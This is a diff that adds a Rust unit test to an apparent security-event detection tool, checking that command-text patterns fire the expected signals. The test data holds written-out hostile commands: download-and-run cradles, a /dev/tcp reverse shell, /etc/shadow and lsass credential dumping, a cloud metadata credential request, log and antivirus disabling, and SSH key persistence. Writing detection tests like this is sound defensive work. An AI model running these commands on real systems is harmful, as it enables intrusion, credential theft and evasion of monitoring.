@@ -483,3 +483,85 @@ fn azure_signal_table() {
     failed["eventType"] = json!("Microsoft.Resources.ResourceActionFailure");
     case("azure failure", failed, &[S::CallFailed], &[]);
 }
+
+#[test]
+fn command_text_signal_table() {
+    let with_text = |text: &str| {
+        let mut ev = normalize(&aws(json!({})).to_string())
+            .ok()
+            .flatten()
+            .unwrap_or_else(|| panic!("event"));
+        ev.command_text = Some(text.to_string());
+        score(&ev, &Policy::default())
+            .signals
+            .iter()
+            .map(|s| s.id)
+            .collect::<Vec<_>>()
+    };
+    let rows: &[(&str, &[S])] = &[
+        (
+            "powershell -nop -w hidden -EncodedCommand SQBFAFgA",
+            &[S::EncodedCommand, S::ExecutionPolicyBypass],
+        ),
+        (
+            "curl -s http://203.0.113.9/x.sh | bash",
+            &[S::DownloadCradle],
+        ),
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+            &[S::DownloadCradle],
+        ),
+        (
+            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+            &[S::ReverseShell],
+        ),
+        (
+            "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
+            &[S::ReverseShell],
+        ),
+        ("cat /etc/shadow", &[S::CredentialAccess]),
+        (
+            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+            &[S::CredentialAccess],
+        ),
+        (
+            "rundll32 comsvcs.dll MiniDump 624 C:\\lsass.dmp full",
+            &[S::CredentialAccess],
+        ),
+        ("history -c; systemctl stop auditd", &[S::DefenseEvasion]),
+        (
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+            &[S::DefenseEvasion],
+        ),
+        (
+            "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
+            &[S::Persistence],
+        ),
+        ("useradd -m backup2", &[S::Persistence]),
+    ];
+    for (text, want) in rows {
+        let got = with_text(text);
+        for id in *want {
+            assert!(
+                got.contains(id),
+                "{text}: expected {} in {got:?}",
+                id.as_str()
+            );
+        }
+    }
+    let benign = with_text("yum -y update && systemctl restart nginx");
+    for (id, _) in cadet_core::signals::COMMAND_PATTERNS {
+        assert!(!benign.contains(id), "benign text fired {}", id.as_str());
+    }
+    let mut ev = normalize(&aws(json!({})).to_string())
+        .ok()
+        .flatten()
+        .unwrap_or_else(|| panic!("event"));
+    ev.enrichment_error = Some("AccessDeniedException".into());
+    let ids: Vec<S> = score(&ev, &Policy::default())
+        .signals
+        .iter()
+        .map(|s| s.id)
+        .collect();
+    assert!(ids.contains(&S::EnrichmentUnavailable));
+}
